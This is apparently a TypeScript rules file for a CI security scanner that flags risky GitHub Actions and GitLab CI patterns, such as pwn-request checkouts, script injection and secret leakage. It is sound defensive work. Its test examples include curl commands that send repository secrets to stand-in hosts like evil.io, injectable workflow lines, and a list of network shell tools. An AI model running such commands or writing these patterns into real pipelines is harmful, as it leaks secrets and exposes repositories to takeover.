import type { Pattern } from '../../model/rules.ts';
import { ACTIONS, DOCUMENT_TAG, WORKFLOWS } from './paths.ts';

const raw = String.raw;

/**
 * A property of a context in any spelling that GitHub reads: `github.event`, `github['event']`,
 * with blanks, in any case.
 */
function property(context: string, ...names: string[]): string {
  const members = names.map((name) => raw`\s*(?:\.\s*${name}\b|\[\s*["']${name}["']\s*\])`);
  return `(?i:${context}${members.join('')})`;
}

/** Texts that the author of an issue or a pull request chooses. */
const CHOSEN = `(?:${[
  property('github', 'event', '(?:issue|pull_request|discussion)', '(?:title|body)'),
  property('github', 'event', '(?:comment|review|review_comment)', 'body'),
  raw`(?i:github\s*\.\s*event\s*\.\s*pages\b[^}\n]{0,20}\bpage_name)`,
  property('github', 'event', 'head_commit', '(?:message|author)'),
  raw`(?i:github\s*\.\s*event\s*\.\s*commits\b[^}\n]{0,20}\.\s*(?:message|author))`,
  // The whole event, with all of these in it.
  raw`(?i:toJSON\(\s*github(?:\s*(?:\.\s*event\b|\[\s*["']event["']\s*\])(?:\s*\.\s*(?:issue|pull_request|comment|review|discussion|head_commit|commits)\b)?)?\s*\))`,
].join('|')})`;
const HEAD_REF = property('github', 'head_ref');
const BRANCH = `(?:${[
  HEAD_REF,
  property('github', 'event', 'pull_request', 'head', '(?:ref|label)'),
  property('github', 'event', 'pull_request', 'head', 'repo', 'default_branch'),
  property('github', 'event', 'workflow_run', 'head_branch'),
].join('|')})`;

/** Triggers that run with secrets for what others propose. */
const PRIVILEGED = raw`\b(?:pull_request_target|workflow_run)\b`;
/** An expression that names the commit, branch or repository of a pull request. */
const PROPOSED_HEAD = `(?:${[
  HEAD_REF,
  property('github', 'event', 'pull_request', 'merge_commit_sha'),
  property('github', 'event', 'pull_request', 'head', '(?:sha|ref|label|repo)'),
  property('github', 'event', 'workflow_run', 'head_(?:sha|branch|repository|commit)'),
].join('|')})`;
/** How the code of a pull request gets onto the runner. */
const PROPOSED = `(?:${[
  raw`["']?\b(?:ref|repository)["']?:\s*["']?\$\{\{\s*${PROPOSED_HEAD}`,
  raw`\bref:\s*["']?(?:refs/)?pull/\$\{\{`,
  // By way of a variable: NAME: the head, then git or the action takes it.
  raw`\b\w+:\s*["']?\$\{\{\s*${PROPOSED_HEAD}[^\n]*\n(?s:.*?)(?:\bgit\s+(?:checkout|fetch|pull|switch|reset|merge|clone|worktree)\b[^\n#]*\$\{?\w|\bref:\s*["']?\$\{\{\s*env\s*\.)`,
  raw`\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull)\b[^\n#]*\bpull/`,
].join('|')})`;

/** Lines of a block that a `run: |` opened: none of them begins like a YAML key or list entry. */
const BLOCK = raw`(?:\n[ \t]+(?:#[^\n]*|(?:[^\s:#-]|-[^\s:])[^\s:]*(?:[ \t][^\n]*)?)|\n[ \t]*)*?`;
const LAST = raw`\n[ \t]+(?:(?:[^\s:#-]|-[^\s:])[^\s:]*(?:[ \t][^\n]*?)?|["'(]?)`;

/**
 * `run:`, or `script:` of actions/github-script, with the expression on its line or in its block;
 * in the flow style of YAML, too.
 */
function inRun(expression: string): string {
  const open = raw`(?m)^[ \t]*(?:-[ \t]+)?(?:\{[^\n]*?[{,][ \t]*|\{[ \t]*)?["']?(?:run|script)["']?:[ \t]*`;
  const inserted = raw`\$\{\{(?:[^}'\n]|'[^'\n]*')*?(?:\b|[^\w}\n])${expression}`;
  return raw`${open}(?:[^|>\s#][^\n]*?${inserted}|[|>][+-]?[ \t]*${BLOCK}${LAST}${inserted})`;
}

/** Variables of GitLab CI whose text the author of a change chooses. */
const GITLAB_TEXT = raw`(?:CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS|MILESTONE)|CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG|AUTHOR)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME)\b`;

/** Workflows of GitHub Actions, Gitea and Forgejo. */
export const workflowPatterns = [
  {
    id: 'risk-workflow-untrusted-checkout',
    description: 'Privileged workflow checks out code of a pull request',
    // The keys of a workflow may stand in any order.
    regex: raw`(?s)${PRIVILEGED}.*${PROPOSED}|${PROPOSED}.*\n["']?on["']?:.{0,400}?${PRIVILEGED}`,
    path: WORKFLOWS,
    keywords: ['pull_request_target', 'workflow_run'],
    target: 'hunk',
    severity: 'high',
    message: 'Anybody who opens a pull request can run code with the secrets of this workflow.',
    fix: 'Use the pull_request trigger, or do not check out the head of the pull request.',
    cwe: 'CWE-829',
    source: 'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
    examples: {
      path: '.github/workflows/ci.yml',
      match: [
        `on: pull_request_target
jobs:
  build:
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}`,
        `on:
  workflow_run:
    workflows: [ci]
jobs:
  report:
    steps:
      - uses: actions/checkout@v4
        with:
          ref: "\${{ github.event.workflow_run.head_sha }}"`,
        `jobs:
  build:
    steps:
      - uses: actions/checkout@v4
        with:
          ref: refs/pull/\${{ github.event.number }}/merge
on: [push, pull_request_target]`,
        'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: gh pr checkout "$N" && make',
        'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git fetch origin pull/$N/head',
        `on: pull_request_target\njobs:\n  a:\n    env:\n      HEAD: \${{ github.event.pull_request.head.sha }}\n    steps:\n      - run: git checkout $HEAD`,
        `on: pull_request_target\njobs:\n  a:\n    env:\n      HEAD: \${{ github.head_ref }}\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ env.HEAD }}`,
        `on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github['event']['pull_request'].head.SHA }}`,
      ],
      noMatch: [
        'on: pull_request_target\njobs:\n  label:\n    steps:\n      - uses: actions/labeler@v5',
        'on: pull_request\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4',
      ],
    },
  },
  {
    id: 'risk-workflow-script-injection',
    description: 'Untrusted input is interpolated into a workflow script',
    regex: inRun(CHOSEN),
    target: 'hunk',
    path: ACTIONS,
    keywords: ['github'],
    tags: [DOCUMENT_TAG],
    severity: 'high',
    message: 'Anybody who writes this title or text can run commands in the workflow.',
    fix: 'Put the expression into env: and use "$NAME" in the script.',
    cwe: 'CWE-78',
    source:
      'https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks',
    examples: {
      path: '.github/workflows/triage.yml',
      match: [
        `      - run: echo "\${{ github.event.issue.title }}"`,
        `        run: |\n          set -e\n          echo "new: x"\n          notify "\${{ github.event.pull_request.body }}"`,
        `      - run: echo "\${{ github['event']['issue']["title"] }}"`,
        `      - run: echo "\${{ GitHub.Event.Comment.Body }}"`,
        `      - run: echo '\${{ toJSON(github.event) }}'`,
        `      - run: echo "\${{ format('{0}', github.event.review.body) }}"`,
        `      - { name: a, run: "echo \${{ github.event.issue.title }}" }`,
        `      - uses: actions/github-script@v7\n        with:\n          script: console.log("\${{ github.event.issue.body }}")`,
      ],
      noMatch: [
        `      - env:\n          TITLE: \${{ github.event.issue.title }}\n        run: echo "$TITLE"`,
        `      - run: |\n          echo hello\n        env:\n          TITLE: \${{ github.event.issue.title }}`,
        `      - run: echo "\${{ github.event.issue.number }}"`,
      ],
    },
  },
  {
    id: 'risk-workflow-branch-injection',
    description: 'Branch name is interpolated into a workflow script',
    regex: inRun(BRANCH),
    target: 'hunk',
    path: ACTIONS,
    keywords: ['head_ref', 'head', 'head_branch'],
    tags: [DOCUMENT_TAG],
    severity: 'medium',
    message: 'A branch may be named so that its name is a command; this runs it.',
    fix: 'Put the expression into env: and use "$NAME" in the script.',
    cwe: 'CWE-78',
    source: 'https://docs.github.com/en/actions/concepts/security/script-injections',
    examples: {
      path: '.github/workflows/ci.yml',
      match: [
        `      - run: git checkout \${{ github.head_ref }}`,
        `        run: |\n          git push origin HEAD:\${{ github.event.pull_request.head.ref }}`,
      ],
      noMatch: [
        `        with:\n          ref: \${{ github.head_ref }}`,
        `        env:\n          BRANCH: \${{ github.head_ref }}`,
      ],
    },
  },
  {
    id: 'risk-workflow-write-all',
    description: 'Workflow token with write access to everything',
    regex: raw`^\s*permissions:\s*["']?write-all\b`,
    path: WORKFLOWS,
    keywords: ['write-all'],
    severity: 'medium',
    message: 'Every step, and every action that it uses, may change code, releases and settings.',
    fix: 'permissions: contents: read, and what else a job needs in that job.',
    cwe: 'CWE-250',
    source:
      'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions',
    examples: {
      path: '.github/workflows/ci.yml',
      match: ['permissions: write-all', '    permissions: "write-all"'],
      noMatch: ['permissions: read-all', '# permissions: write-all'],
    },
  },
  {
    id: 'risk-workflow-secrets-inherit',
    description: 'All secrets are passed to a workflow of another repository',
    regex: raw`\buses:[ \t]*["']?[\w-]+/[\w.-]+/[^\s"'@]+@[^\s]+(?:\n[ \t]+[^\n]*){0,12}?\n[ \t]+secrets:[ \t]*inherit\b`,
    target: 'hunk',
    path: WORKFLOWS,
    keywords: ['secrets: inherit'],
    severity: 'medium',
    message: 'Anybody who can change that workflow can read every secret of this repository.',
    fix: 'Hand over the secrets that it needs, by name.',
    cwe: 'CWE-668',
    source: 'https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows',
    examples: {
      path: '.github/workflows/release.yml',
      match: [
        '    uses: acme/ci/.github/workflows/release.yml@main\n    secrets: inherit',
        '    uses: acme/ci/.github/workflows/a.yml@v1\n    with:\n      node: 22\n    secrets: inherit',
      ],
      noMatch: [
        '    uses: ./.github/workflows/release.yml\n    secrets: inherit',
        '    uses: acme/ci/.github/workflows/a.yml@v1\n    secrets:\n      TOKEN: x',
      ],
    },
  },
  {
    id: 'risk-workflow-all-secrets-sent',
    description: 'All secrets are serialized where the workflow sends data',
    regex: raw`(?i)\$\{\{[^}\n]{0,40}toJSON\(\s*secrets\s*\)`,
    requires: raw`\b(?:curl|wget|nc|ncat|netcat|socat|iwr|irm|base64|openssl|xxd)\b|\b(?:Invoke-(?:WebRequest|RestMethod)|fetch|axios|urlopen|requests\.\w+)\b|/dev/tcp/`,
    path: ACTIONS,
    keywords: ['tojson'],
    severity: 'high',
    message: 'Every secret of the repository can leave with one request.',
    fix: 'Name the secrets that the step needs.',
    cwe: 'CWE-201',
    source: 'https://docs.github.com/en/actions/reference/security/secure-use',
    examples: {
      path: '.github/workflows/ci.yml',
      match: [
        `        run: curl -d '\${{ toJSON(secrets) }}' https://collect.acme.io`,
        `        env:\n          ALL: \${{ toJson(secrets) }}\n        run: echo "$ALL" | base64 -w0`,
      ],
      noMatch: [
        `        run: curl -H "Authorization: Bearer \${{ secrets.TOKEN }}" https://api.acme.io`,
        `        run: echo '\${{ toJSON(matrix) }}' | base64`,
      ],
    },
  },
  {
    id: 'risk-workflow-variable-injection',
    description: 'Variable with untrusted input is interpolated into a workflow script',
    regex: inRun(property('env', raw`\w+`)),
    requires: raw`^\s*["']?\w+["']?:\s*["']?\$\{\{[^}\n]{0,60}(?:\b|[^\w}\n])(?:${CHOSEN}|${BRANCH})`,
    target: 'hunk',
    path: ACTIONS,
    keywords: ['env'],
    severity: 'medium',
    message: 'Where this variable holds the title, text or branch, its author can run commands.',
    fix: 'Use "$NAME" in the script: a shell variable is never read as code.',
    cwe: 'CWE-78',
    source:
      'https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks',
    examples: {
      path: '.github/workflows/triage.yml',
      match: [
        `      - env:\n          TITLE: \${{ github.event.issue.title }}\n        run: echo "\${{ env.TITLE }}"`,
        `    env:\n      B: \${{ github.head_ref }}\n    steps:\n      - run: git checkout \${{ env['B'] }}`,
      ],
      noMatch: [
        `      - env:\n          TITLE: \${{ github.event.issue.title }}\n        run: echo "$TITLE"`,
        `      - env:\n          NODE: 22\n        run: echo "\${{ env.NODE }}"`,
      ],
    },
  },
  {
    id: 'risk-gitlab-script-injection',
    description: 'Untrusted input runs as shell code in GitLab CI',
    regex: raw`\beval\b[^\n]*\$\{?${GITLAB_TEXT}|\b(?:(?:ba|da|z|k)?sh|python[\d.]*|node|perl|ruby)\s+-[ce]\s+\\?"[^\n]*\$\{?${GITLAB_TEXT}|\bssh\b[^\n]*\\?"[^\n]*\$\{?${GITLAB_TEXT}`,
    path: raw`(?i)(?:^|/)[^/]*gitlab-ci[^/]*\.ya?ml$|^\.gitlab/.*\.ya?ml$`,
    keywords: ['ci_merge_request_', 'ci_commit_', 'ci_external_pull_request_'],
    tags: [DOCUMENT_TAG],
    severity: 'high',
    message: 'Anybody who writes a title, a message or the name of a branch can run commands.',
    fix: 'Hand it over as an argument: sh -c \'notify "$1"\' -- "$CI_COMMIT_TITLE".',
    cwe: 'CWE-78',
    source: 'https://docs.gitlab.com/ci/variables/#cicd-variable-security',
    examples: {
      path: '.gitlab-ci.yml',
      match: [
        '    - eval "notify $CI_MERGE_REQUEST_TITLE"',
        `    - bash -c "echo \${CI_COMMIT_MESSAGE}"`,
        `    - 'ssh deploy@host "deploy.sh $CI_MERGE_REQUEST_SOURCE_BRANCH_NAME"'`,
      ],
      noMatch: [
        '    - notify "$CI_MERGE_REQUEST_TITLE"',
        `    - sh -c 'notify "$1"' -- "$CI_COMMIT_TITLE"`,
        '    - bash -c "echo $CI_COMMIT_SHA"',
      ],
    },
  },
  {
    id: 'risk-workflow-all-secrets',
    description: 'All secrets are serialized into one value',
    regex: raw`(?i)\$\{\{\s*toJSON\(\s*secrets\s*\)`,
    path: ACTIONS,
    keywords: ['tojson(secrets', 'tojson( secrets'],
    severity: 'medium',
    message: 'One step gets every secret of the repository, needed or not.',
    fix: 'Name the secrets that the step needs.',
    cwe: 'CWE-668',
    source: 'https://docs.github.com/en/actions/reference/security/secure-use',
    examples: {
      path: '.github/workflows/ci.yml',
      match: [
        `          ALL: \${{ toJSON(secrets) }}`,
        `        run: echo '\${{ toJson( secrets ) }}'`,
      ],
      noMatch: [
        `          TOKEN: \${{ secrets.TOKEN }}`,
        `          EVENT: \${{ toJSON(github.event) }}`,
      ],
    },
  },
  {
    id: 'risk-workflow-secret-printed',
    description: 'Secret is printed to the workflow log',
    regex: raw`\b(?:echo|printf|Write-Host|Write-Output)\b[^|>&;\n]*\$\{\{\s*secrets\.\w+\s*\}\}[^|>&;\n]*$`,
    path: ACTIONS,
    keywords: ['secrets.'],
    severity: 'medium',
    message: 'The log masks a secret only where it stands as it is; encoded or cut it is readable.',
    fix: 'Do not print it.',
    cwe: 'CWE-532',
    source:
      'https://docs.github.com/en/actions/how-tos/write-workflows/choose-what-workflows-do/use-secrets',
    examples: {
      path: '.github/workflows/ci.yml',
      match: [
        `      - run: echo "\${{ secrets.TOKEN }}"`,
        `          printf '%s' \${{ secrets.KEY }}`,
      ],
      noMatch: [
        `          echo "\${{ secrets.KEY }}" > key.json`,
        `          echo "\${{ secrets.KEY }}" | docker login --password-stdin`,
        `          TOKEN: \${{ secrets.TOKEN }}`,
      ],
    },
  },
  {
    id: 'risk-workflow-secret-sent',
    description: 'Secret is sent to an unrelated host',
    regex: raw`(?i)\b(?:curl|wget|nc|ncat)\b[^\n]*(?:\s(?:-d|-F|-T|--data(?:-\w+)?|--form|--post-data)[ =]*["']?(?:\w+=)?|\?\w+=|/)\$\{\{\s*(?:secrets\s*[.\[]|toJSON\(\s*secrets)|\$\{\{\s*(?:secrets\s*[.\[]|toJSON\(\s*secrets)[^\n]*\|[^\n]*\b(?:curl|wget|nc|ncat)\b`,
    path: ACTIONS,
    keywords: ['secrets'],
    allowlists: [
      {
        description: 'hosts at which a client shows who it is; the host of the repository',
        regexTarget: 'line',
        regexes: [
          raw`https://(?:login|auth|oauth2?|accounts?|sso|api|hooks?|webhooks?)\.|https://(?:[\w-]+\.)?github\.com/`,
        ],
      },
    ],
    severity: 'high',
    message: 'The secret leaves for a host that nothing says it is for; the log does not show it.',
    fix: 'Remove it, and replace the secret if this has run. Authenticate with a header over https.',
    cwe: 'CWE-200',
    source: 'https://attack.mitre.org/techniques/T1567/',
    examples: {
      path: '.github/workflows/ci.yml',
      match: [
        `      - run: curl -d "t=\${{ secrets.NPM_TOKEN }}" https://collect.evil.io/x`,
        `        run: echo "\${{ secrets.KEY }}" | base64 | curl --data-binary @- https://evil.io`,
      ],
      noMatch: [
        `      - run: curl -H "Authorization: Bearer \${{ secrets.TOKEN }}" https://api.acme.io/x`,
        `      - run: curl -X POST -d '{"text":"done"}' "\${{ secrets.SLACK_WEBHOOK_URL }}"`,
      ],
    },
  },
  {
    id: 'risk-workflow-privileged-trigger',
    description: 'Privileged workflow that outsiders can trigger',
    regex: raw`^\s*(?:-\s*)?(?:on:\s*(?:\[[^\]]*)?)?pull_request_target\b`,
    path: WORKFLOWS,
    keywords: ['pull_request_target'],
    severity: 'low',
    message: 'Pull requests from anybody start this with a token that may write.',
    fix: 'Use pull_request unless the job needs secrets; then run nothing of the pull request.',
    source:
      'https://docs.github.com/en/actions/reference/security/securely-using-pull_request_target',
    examples: {
      path: '.github/workflows/label.yml',
      match: ['  pull_request_target:', 'on: [push, pull_request_target]'],
      noMatch: ['  pull_request:', `    if: github.event_name == 'pull_request_target'`],
    },
  },
  {
    id: 'risk-workflow-own-runner',
    description: 'Pull requests run on a self-hosted runner',
    regex: raw`(?s)\bpull_request(?:_target)?\b.*\bruns-on:\s*(?:\[\s*)?["']?self-hosted\b`,
    target: 'hunk',
    path: WORKFLOWS,
    keywords: ['self-hosted'],
    severity: 'medium',
    message: 'In a public repository anybody can run code on this machine, and leave it there.',
    fix: 'Use hosted or one-time runners for pull requests.',
    source:
      'https://docs.github.com/en/actions/reference/security/secure-use#hardening-for-self-hosted-runners',
    examples: {
      path: '.github/workflows/ci.yml',
      match: [
        'on: pull_request\njobs:\n  test:\n    runs-on: self-hosted',
        'on:\n  pull_request:\njobs:\n  a:\n    runs-on: [self-hosted, linux]',
      ],
      noMatch: [
        'on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest',
        'on: push\njobs:\n  test:\n    runs-on: self-hosted',
      ],
    },
  },
  {
    id: 'risk-workflow-unsecure-commands',
    description: 'Deprecated set-env and add-path commands are enabled',
    regex: raw`\bACTIONS_ALLOW_UNSECURE_COMMANDS["']?\s*[:=]\s*["']?(?:true|1)\b`,
    path: ACTIONS,
    keywords: ['actions_allow_unsecure_commands'],
    severity: 'medium',
    message: 'Whatever prints a line of the right shape changes what the next steps run.',
    fix: 'Write to $GITHUB_ENV and $GITHUB_PATH.',
    cwe: 'CWE-77',
    source:
      'https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/',
    examples: {
      path: '.github/workflows/ci.yml',
      match: [
        '      ACTIONS_ALLOW_UNSECURE_COMMANDS: true',
        `  ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'`,
      ],
      noMatch: [
        '      ACTIONS_ALLOW_UNSECURE_COMMANDS: false',
        '# ACTIONS_ALLOW_UNSECURE_COMMANDS',
      ],
    },
  },
  {
    id: 'risk-workflow-self-approval',
    description: 'Workflow approves pull requests or bypasses branch protection',
    regex: raw`\bgh\s+pr\s+(?:review\b.*\s--approve\b|merge\b.*\s--admin\b)|\buses:\s*["']?[\w-]*/?(?:auto-approve-action|automatic-approve-action)@|\bevent:\s*["']APPROVE["']`,
    path: ACTIONS,
    keywords: ['gh pr ', 'approve-action', 'approve'],
    severity: 'low',
    message: 'Changes reach the branch without anybody who looked at them.',
    fix: 'Limit it to the author and the kind of change that it is for.',
    source: 'https://docs.github.com/en/actions/reference/security/secure-use',
    examples: {
      path: '.github/workflows/merge.yml',
      match: [
        '      - run: gh pr review --approve "$PR"',
        '        run: gh pr merge "$PR" --squash --admin',
      ],
      noMatch: ['      - run: gh pr view "$PR"', '        run: gh pr merge "$PR" --squash --auto'],
    },
  },
  {
    id: 'risk-action-branch',
    description: 'Third-party action pinned to a branch',
    regex: raw`^\s*(?:-\s*)?uses:\s*["']?[\w.-]+/[\w./-]+@(?:main|master|develop|dev|trunk|latest|HEAD|next)["']?\s*(?:#.*)?$`,
    path: ACTIONS,
    keywords: ['uses:'],
    allowlists: [
      {
        description: 'the host’s own',
        regexTarget: 'match',
        regexes: [raw`uses:\s*["']?(?:actions|github)/`],
      },
    ],
    severity: 'low',
    message: 'Every push there changes what runs here, with the secrets that are here.',
    fix: 'Pin it to the full SHA of a commit.',
    cwe: 'CWE-829',
    source:
      'https://docs.github.com/en/actions/reference/security/secure-use#using-third-party-actions',
    examples: {
      path: '.github/workflows/ci.yml',
      match: [
        '      - uses: acme/deploy@main',
        '    uses: acme/ci/.github/workflows/a.yml@master # x',
      ],
      noMatch: [
        '      - uses: actions/checkout@main',
        '      - uses: acme/deploy@v2',
        '      - uses: ./local',
      ],
    },
  },
  {
    id: 'risk-action-mutable-tag',
    description: 'Third-party action pinned to a mutable tag',
    regex: raw`^\s*(?:-\s*)?uses:\s*["']?[\w.-]+/[\w./-]+@v?\d[\w.-]{0,20}["']?\s*(?:#.*)?$`,
    path: ACTIONS,
    keywords: ['uses:'],
    allowlists: [
      {
        description: 'the host’s own',
        regexTarget: 'match',
        regexes: [raw`uses:\s*["']?(?:actions|github|docker)/`],
      },
    ],
    severity: 'info',
    message:
      'Anybody who takes over that repository can move the tag, as happened (CVE-2025-30066).',
    fix: 'Pin it to the full SHA of a commit.',
    cwe: 'CWE-829',
    source:
      'https://docs.github.com/en/actions/reference/security/secure-use#using-third-party-actions',
    examples: {
      path: '.github/workflows/ci.yml',
      match: ['      - uses: acme/deploy@v2', `        uses: 'acme/deploy@1.2.3'`],
      noMatch: [
        '      - uses: actions/checkout@v4',
        '      - uses: acme/deploy@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v2',
      ],
    },
  },
] satisfies readonly Pattern[];
